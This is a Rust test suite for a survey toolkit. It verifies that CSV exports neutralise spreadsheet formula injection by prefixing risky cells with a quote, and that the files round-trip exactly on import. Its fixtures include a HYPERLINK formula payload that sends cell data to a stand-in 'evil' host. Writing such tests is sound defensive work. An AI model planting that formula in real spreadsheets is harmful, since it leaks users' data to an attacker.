//! CSV formula injection (issue 14, item 2): a text cell that begins with
//! `=`, `+`, `-`, `@`, a tab or a carriage return is a live formula when a
//! spreadsheet opens the file, so every CSV the toolkit writes for people — the
//! interchange CSV, the labelled CSV, `manyi merge` output, the call-back
//! contacts — writes such text with a leading `'`, and import takes exactly one
//! `'` off again, so that the round trip is exact. Scale answers are numbers
//! and are written as they are; the .xlsx workbook types its cells and is not
//! touched.

use std::process::Command;

use manyi::csv::Reader;
use manyi::store::{Contact, StoredSet};
use manyi::{Instrument, Lang, QuestionKind, Responses, MISSING};
use proptest::prelude::*;

/// Texts a spreadsheet would run, texts that look escaped already, and
/// ordinary ones.
const TEXTS: [&str; 16] = [
    "=HYPERLINK(\"http://evil/?d=\"&B2,\"click\")",
    "+1",
    "-2",
    "@SUM(A1)",
    "\tx",
    "\rx",
    "'=already",
    "''+twice",
    "'plain quote",
    "'",
    "=",
    "-3 dB",
    "张三",
    "a=b",
    "ordinary, with a comma",
    "",
];

/// Ids are trimmed on import, so an id never begins with white space.
const IDS: [&str; 11] = [
    "=HYPERLINK(\"http://evil/?d=\"&B2,\"click\")",
    "+1",
    "-2",
    "-5",
    "@SUM(A1)",
    "'=already",
    "''-twice",
    "'plain",
    "X2023-0007",
    "张三",
    "ordinary",
];

fn dangerous(cell: &str) -> bool {
    cell.starts_with(['=', '+', '-', '@', '\t', '\r'])
}

/// A store of the built-in instrument: one response per id, q17 = 0..=10 in
/// turn, a `note` and a `contact_name` column full of formula-like text.
fn nasty_store(inst: &Instrument) -> Responses {
    let mut r = Responses::new(inst, &["note", "contact_name"]).expect("good names");
    for (i, id) in IDS.iter().enumerate() {
        let mut codes = vec![MISSING; inst.questions().len()];
        codes[0] = (i % 2) as u8;
        codes[16] = (i % 11) as u8;
        r.push(
            inst,
            id,
            &codes,
            &[TEXTS[i % TEXTS.len()], TEXTS[(i + 5) % TEXTS.len()]],
        )
        .expect("pushed");
    }
    r
}

/// The records of a written CSV, as a spreadsheet sees its cells.
fn cells(bytes: &[u8]) -> Vec<Vec<String>> {
    let mut reader = Reader::new(bytes);
    let mut fields = Vec::new();
    let mut out = Vec::new();
    while let Some(rec) = reader.read_record(&mut fields) {
        rec.expect("the writer writes readable CSV");
        out.push(
            fields
                .iter()
                .map(|f| String::from_utf8(f.to_vec()).expect("utf8"))
                .collect(),
        );
    }
    out
}

/// No cell of `bytes` begins with a formula character, except the scale
/// answers, which must be plain digits; text that began with one (or with
/// quotes and then one) is written with one more `'`.
fn assert_neutralised(inst: &Instrument, bytes: &[u8], original: &Responses) {
    let rows = cells(bytes);
    let header = &rows[0];
    let scale: Vec<bool> = header
        .iter()
        .map(|h| {
            inst.position(h)
                .is_some_and(|q| inst.questions()[q].kind == QuestionKind::Scale)
        })
        .collect();
    for (r, row) in rows.iter().enumerate() {
        for (c, cell) in row.iter().enumerate() {
            assert!(
                !dangerous(cell),
                "row {r}, column {c}: {cell:?} is a formula"
            );
            if r > 0 && scale[c] {
                assert!(
                    cell.is_empty() || cell.bytes().all(|b| b.is_ascii_digit()),
                    "scale answer {cell:?} is not plain digits"
                );
            }
        }
    }
    // Each id's cell: the id itself, or the id with one more quote.
    let id_col = header.iter().position(|h| h == "id").expect("id column");
    for (row, id) in rows[1..].iter().zip(original.ids()) {
        let escaped = dangerous(id.trim_start_matches('\''));
        let expected = if escaped {
            format!("'{id}")
        } else {
            id.to_owned()
        };
        assert_eq!(row[id_col], expected);
    }
}

#[test]
fn interchange_csv_neutralises_text_and_round_trips() {
    let inst = Instrument::builtin();
    let r = nasty_store(&inst);
    for bom in [true, false] {
        let bytes = r.to_csv(&inst, bom).expect("export");
        assert_neutralised(&inst, &bytes, &r);
        let text = String::from_utf8(bytes.clone()).expect("utf8");
        // The cells as Excel meets them in the file's bytes.
        assert!(text.contains("\r\n'+1,B,"), "{text}");
        assert!(text.contains("\r\n\"'=HYPERLINK(\"\"http://evil/?d=\"\"&B2,\"\"click\"\")\","));
        assert!(text.contains(",'@SUM(A1),"), "{text}");
        assert!(text.contains("\r\n''=already,"), "{text}");
        assert!(text.contains("\r\n'''-twice,"), "{text}");
        assert!(text.contains("\r\n'plain,"), "{text}");
        assert!(text.contains("\r\nX2023-0007,"), "{text}");
        assert!(text.contains(",'\tx"), "{text}");
        assert!(text.contains(",\"'\rx\""), "{text}");
        // q17 = 0..=10 as plain digits.
        let q17: Vec<String> = cells(&bytes)[1..]
            .iter()
            .map(|row| row[17].clone())
            .collect();
        assert_eq!(
            q17,
            ["0", "1", "2", "3", "4", "5", "6", "7", "8", "9", "10"]
        );
        let back = Responses::from_csv(&inst, &bytes).expect("imports");
        assert_eq!(back, r, "import(export(r)) != r");
        assert_eq!(back.to_csv(&inst, bom).expect("again"), bytes);
    }
}

#[test]
fn a_file_from_another_tool_keeps_its_text() {
    // Formula-like text written as it is (by another program) imports as it
    // is; only a quote before a formula character is taken off.
    let inst = Instrument::builtin();
    let csv = "id,q1,q2,q3,q4,q5,q6,q7,q8,q9,q10,q11,q12,q13,q14,q15,q16,q17,note\r\n\
               =1+1,A,,,,,,,,,,,,,,,,5,-3 dB\r\n\
               '-x,A,,,,,,,,,,,,,,,,0,'@home\r\n\
               'x,A,,,,,,,,,,,,,,,,10,''=y\r\n";
    let r = Responses::from_csv(&inst, csv.as_bytes()).expect("imports");
    assert_eq!(r.ids(), ["=1+1", "-x", "'x"]);
    assert_eq!(r.extras()[0].values, ["-3 dB", "@home", "'=y"]);
    assert_eq!(r.column(16), [5, 0, 10]);
}

#[test]
fn scale_answers_are_numbers_not_text() {
    // A quote never makes a scale answer: "'5" and "'-1" are refused as before.
    let inst = Instrument::builtin();
    for bad in ["'5", "'-1", "-1"] {
        let csv = format!(
            "id,q1,q2,q3,q4,q5,q6,q7,q8,q9,q10,q11,q12,q13,q14,q15,q16,q17\na,A,,,,,,,,,,,,,,,,{bad}\n"
        );
        let e = Responses::from_csv(&inst, csv.as_bytes()).expect_err(bad);
        assert_eq!(e.problems()[0].column, Some(18), "{bad}");
    }
}

/// A small instrument whose option texts a spreadsheet would run.
const SIGNED: &str = r#"{
  "id": "signed", "version": "1",
  "title": {"zh-CN": "变化"},
  "questions": [
    {"id": "trend", "kind": "single", "text": {"zh-CN": "变化", "en": "Trend"},
     "options": [
       {"code": "A", "label": {"zh-CN": "+ 增加", "en": "+ more"}},
       {"code": "B", "label": {"zh-CN": "- 减少", "en": "-less"}},
       {"code": "C", "label": {"zh-CN": "=HYPERLINK(\"http://evil\")", "en": "@same"}},
       {"code": "D", "label": {"zh-CN": "'- quoted", "en": "plain"}}
     ]},
    {"id": "ltr", "kind": "scale", "text": {"zh-CN": "推荐"}, "min": 0, "max": 10}
  ]
}"#;

#[test]
fn labelled_csv_neutralises_option_texts_and_reads_back() {
    let inst = Instrument::from_json(SIGNED).expect("valid instrument");
    let mut r = Responses::new(&inst, &["note"]).expect("names");
    for (i, t) in TEXTS.iter().enumerate() {
        let code = if i % 5 == 4 { MISSING } else { (i % 5) as u8 };
        r.push(&inst, &format!("r{i}"), &[code, (i % 11) as u8], &[t])
            .expect("pushed");
    }
    for lang in [Lang::ZhCn, Lang::En] {
        let bytes = r.to_labelled_csv(&inst, lang, true).expect("export");
        for (n, row) in cells(&bytes).iter().enumerate() {
            for cell in row {
                assert!(!dangerous(cell), "line {}: {cell:?} is a formula", n + 1);
            }
        }
        let text = String::from_utf8(bytes.clone()).expect("utf8");
        assert!(
            text.contains(",\"'=HYPERLINK(\"\"http://evil\"\")\",") || text.contains(",'@same,"),
            "{text}"
        );
        assert!(
            text.contains("'- 减少") || text.contains("'-less"),
            "{text}"
        );
        assert_eq!(Responses::from_csv(&inst, &bytes).expect("reads"), r);
    }
    // The same instrument's letters and the built-in labelled export.
    let bytes = r.to_csv(&inst, true).expect("export");
    assert_eq!(Responses::from_csv(&inst, &bytes).expect("reads"), r);
    let builtin = Instrument::builtin();
    let b = nasty_store(&builtin);
    let bytes = b
        .to_labelled_csv(&builtin, Lang::ZhCn, true)
        .expect("export");
    assert_neutralised(&builtin, &bytes, &b);
    assert_eq!(Responses::from_csv(&builtin, &bytes).expect("reads"), b);
}

#[test]
fn call_back_contacts_are_neutralised() {
    let inst = Instrument::builtin();
    let mut set = StoredSet::new(inst.clone());
    let mut names = Vec::new();
    for (i, id) in IDS.iter().enumerate() {
        let mut codes = vec![MISSING; 17];
        codes[16] = (i % 11) as u8;
        set.responses.push(&inst, id, &codes, &[]).expect("pushed");
        set.exported.push(false);
        set.origin.push(manyi::store::Origin::Chunk);
        let name = TEXTS[i % TEXTS.len()].to_owned();
        names.push(name.clone());
        set.contacts.push(Some(Box::new(Contact {
            name,
            phone: "+86 138 0000 0000".into(),
            consent_at: "2024-05-01T09:00:00Z".into(),
        })));
    }
    let exported = set.responses_with(true);
    let bytes = exported.to_csv(&inst, true).expect("export");
    assert_neutralised(&inst, &bytes, &exported);
    assert!(String::from_utf8_lossy(&bytes).contains(",'+86 138 0000 0000,"));
    let back = Responses::from_csv(&inst, &bytes).expect("reads");
    let col = |r: &Responses, name: &str| -> Vec<String> {
        let c = r
            .extras()
            .iter()
            .find(|e| e.name == name)
            .expect("contact column");
        (0..r.len()).map(|i| c.values.get(i).to_owned()).collect()
    };
    assert_eq!(col(&back, "contact_name"), names);
    assert_eq!(back, exported);
}

#[test]
fn xlsx_keeps_text_as_text() {
    // A workbook types its cells, so nothing is escaped there.
    let inst = Instrument::builtin();
    let r = nasty_store(&inst);
    let book = manyi::export::to_xlsx(&inst, &r, Lang::En).expect("workbook");
    let rows = manyi::xlsx::read_first_sheet(&book).expect("reads");
    let ids: Vec<&str> = rows[1..].iter().map(|(_, row)| row[0].as_str()).collect();
    assert_eq!(ids, IDS);
    assert_eq!(Responses::from_xlsx(&inst, &book).expect("imports"), r);
}

fn manyi(args: &[&str]) -> (i32, String) {
    let out = Command::new(env!("CARGO_BIN_EXE_manyi"))
        .args(args)
        .output()
        .expect("runs");
    (
        out.status.code().unwrap_or(-1),
        String::from_utf8_lossy(&out.stderr).into_owned(),
    )
}

#[test]
fn merge_output_is_neutralised_and_exact() {
    let inst = Instrument::builtin();
    let dir = std::env::temp_dir().join(format!("manyi-formula-{}", std::process::id()));
    let _ = std::fs::remove_dir_all(&dir);
    std::fs::create_dir_all(&dir).expect("temp dir");
    let all = nasty_store(&inst);
    // Two devices' exports, overlapping by two responses.
    let first = all.select(&[0, 1, 2, 3, 4, 5, 6]).expect("rows");
    let second = all.select(&[5, 6, 7, 8, 9, 10]).expect("rows");
    let (a, b, out) = (dir.join("a.csv"), dir.join("b.csv"), dir.join("all.csv"));
    std::fs::write(&a, first.to_csv(&inst, true).expect("a")).expect("write a");
    std::fs::write(&b, second.to_csv(&inst, false).expect("b")).expect("write b");
    let path = |p: &std::path::Path| p.to_string_lossy().into_owned();
    let (code, err) = manyi(&["merge", &path(&a), &path(&b), "-o", &path(&out)]);
    assert_eq!(code, 0, "{err}");
    let bytes = std::fs::read(&out).expect("merged file");
    assert!(bytes.starts_with(b"\xEF\xBB\xBF"));
    assert_neutralised(&inst, &bytes, &all);
    let merged = Responses::from_csv(&inst, &bytes).expect("imports");
    assert_eq!(merged.ids(), all.ids());
    for q in 0..17 {
        assert_eq!(merged.column(q), all.column(q));
    }
    for e in all.extras() {
        let m = merged
            .extras()
            .iter()
            .find(|m| m.name == e.name)
            .expect("column kept");
        assert_eq!(m.values, e.values, "{}", e.name);
    }
    let source = merged
        .extras()
        .iter()
        .find(|m| m.name == "source")
        .expect("source");
    let expected: Vec<&str> = (0..all.len())
        .map(|i| if i < 7 { "a.csv" } else { "b.csv" })
        .collect();
    assert_eq!(source.values, expected);
    let _ = std::fs::remove_dir_all(&dir);
}

/// Any text, weighted towards formula characters and quotes at the start.
fn nasty_text() -> impl Strategy<Value = String> {
    (
        proptest::collection::vec(
            prop::sample::select(vec!["'", "=", "+", "-", "@", "\t", "\r", "\n", " ", "\""]),
            0..4,
        ),
        ".{0,6}",
    )
        .prop_map(|(head, tail)| head.concat() + &tail)
}

proptest! {
    #![proptest_config(ProptestConfig { cases: 256, ..ProptestConfig::default() })]

    /// Any id and any extra text round-trip exactly, and no written cell
    /// begins with a formula character.
    #[test]
    fn any_text_round_trips_and_is_never_a_formula(
        rows in proptest::collection::vec((nasty_text(), nasty_text(), 0u8..=10), 1..8),
        name in nasty_text(),
        bom in any::<bool>(),
    ) {
        let inst = Instrument::builtin();
        let name = name
            .trim_matches(|c: char| c.is_whitespace() || c == '\u{feff}')
            .to_owned();
        let extra: Vec<&str> = if name.is_empty() || name.eq_ignore_ascii_case("id")
            || inst.position(&name.to_ascii_lowercase()).is_some() {
            vec!["note"]
        } else {
            vec![name.as_str()]
        };
        let mut r = Responses::new(&inst, &extra).expect("a good name");
        for (i, (id, note, q17)) in rows.iter().enumerate() {
            let mut codes = vec![MISSING; 17];
            codes[16] = *q17;
            // Ids are trimmed and must be unique: give each its row number.
            let id = format!("{}{i}", id.trim_end());
            if r.push(&inst, &id, &codes, &[note]).is_err() {
                continue;
            }
        }
        prop_assume!(!r.is_empty());
        for bytes in [
            r.to_csv(&inst, bom).expect("export"),
            r.to_labelled_csv(&inst, Lang::En, bom).expect("labelled"),
        ] {
            for row in cells(&bytes) {
                for cell in row {
                    prop_assert!(!dangerous(&cell), "{:?} is a formula", cell);
                }
            }
            prop_assert_eq!(&Responses::from_csv(&inst, &bytes).expect("imports"), &r);
        }
    }
}
